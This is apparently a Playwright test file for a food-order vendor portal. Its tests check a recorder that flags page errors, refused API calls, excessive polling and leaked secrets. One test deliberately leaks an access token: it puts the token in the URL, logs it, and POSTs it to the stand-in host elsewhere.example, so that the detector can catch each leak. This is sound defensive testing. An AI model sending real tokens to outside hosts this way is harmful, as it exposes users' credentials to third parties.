import type { Page } from '@playwright/test';
import { expect, test } from '../../support/fixtures.ts';
import { NO_PORTAL } from '../../support/signIn.ts';

const WAITING = '/api/food-order/get-waiting-order';

/** Requests the list of new orders from a page without a portal. */
async function callOften(page: Page, times: number) {
  await page.evaluate(
    ([url, count]) =>
      Promise.all(Array.from({ length: count }, () => fetch(url, { method: 'POST' }))),
    [WAITING, times] as const,
  );
}

test.beforeEach(({ page }) => page.goto(NO_PORTAL));

test('an error of any page is found', async ({ page, context, recorder }) => {
  await page.evaluate(() => {
    setTimeout(() => {
      throw new Error('thrown');
    });
    void Promise.reject(new Error('rejected'));
    return new Promise((resolve) => setTimeout(resolve, 20));
  });
  const other = await context.newPage();
  await other.evaluate(() => globalThis.console.error('logged'));
  expect((await recorder.findings()).toSorted()).toEqual([
    expect.stringMatching(/^console.error: logged/),
    expect.stringMatching(/^uncaught: Error: rejected/),
    expect.stringMatching(/^uncaught: Error: thrown/),
  ]);
});

test('a refused call is found unless the test caused its fault', async ({
  page,
  recorder,
  sandbox,
}) => {
  await callOften(page, 1);
  expect(await recorder.findings()).toEqual([
    expect.stringMatching(/status of 415.*waiting-order/),
  ]);
  const fault = await sandbox.fault({ endpoint: 'waitingOrders', status: 500, phone: '0' });
  await callOften(page, 1);
  await sandbox.clearFault(fault.id);
  await page.route('**/gone', (route) => route.abort());
  await page.evaluate(() => fetch('/gone').catch(() => {}));
  expect(await recorder.findings()).toEqual([]);
});

test('a token that leaves the portal is found', async ({ page, newVendor, sandbox, recorder }) => {
  const { access_token } = await sandbox.token((await newVendor()).phone);
  await page.route('https://elsewhere.example/**', (route) =>
    route.fulfill({ headers: { 'access-control-allow-origin': '*' } }),
  );
  await page.evaluate(async (token) => {
    history.pushState(null, '', `#${token}`);
    globalThis.console.debug({ token });
    await fetch('https://elsewhere.example/', { method: 'POST', body: token });
  }, access_token);
  expect(await recorder.findings()).toEqual([
    expect.stringMatching(/^a secret in the URL/),
    expect.stringMatching(/^a secret in the log/),
    'a secret was sent to https://elsewhere.example/',
  ]);
});

test('a sixth call within 10 seconds of the page is found', async ({ page, recorder }) => {
  await page.clock.install();
  await page.goto(NO_PORTAL);
  await recorder.findings();
  recorder.expectError(/415.*waiting-order/);
  await callOften(page, 4);
  await page.clock.fastForward(10_000);
  await callOften(page, 4);
  expect(await recorder.findings()).toEqual([]);
  recorder.expectError(/415.*waiting-order/);
  await callOften(page, 6);
  expect(await recorder.findings()).toEqual([expect.stringMatching(/^waitingOrders was called 6/)]);
});
